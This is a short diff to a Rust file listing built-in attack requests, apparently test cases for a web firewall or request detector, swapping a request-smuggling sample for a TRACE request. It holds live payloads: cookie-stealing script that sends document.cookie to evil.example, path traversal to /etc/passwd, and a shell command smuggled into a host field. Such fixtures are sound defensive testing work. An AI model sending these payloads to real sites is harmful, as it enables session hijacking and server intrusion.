@@ -53,7 +53,7 @@ pub(crate) fn builtin() -> Vec<(String, Exchange)> {
         ("attack-xss", get("/search?q=%3Cscript%3Edocument.location%3D%27//evil.example/%27%2Bdocument.cookie%3C/script%3E")),
         ("attack-lfi", get("/download?file=..%252f..%252f..%252fetc%252fpasswd")),
         ("attack-rce", post(form, "host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd")),
-        ("attack-protocol", "GET / HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_owned()),
+        ("attack-protocol", "TRACE / HTTP/1.1\r\nHost: shop.example.org\r\nMax-Forwards: 0\r\n\r\n".to_owned()),
         ("attack-scanner", "GET /admin.php HTTP/1.1\r\nHost: shop.example.org\r\nUser-Agent: sqlmap/1.8.2#stable (https://sqlmap.org)\r\nAccept: */*\r\n\r\n".to_owned()),
     ]
     .into_iter()
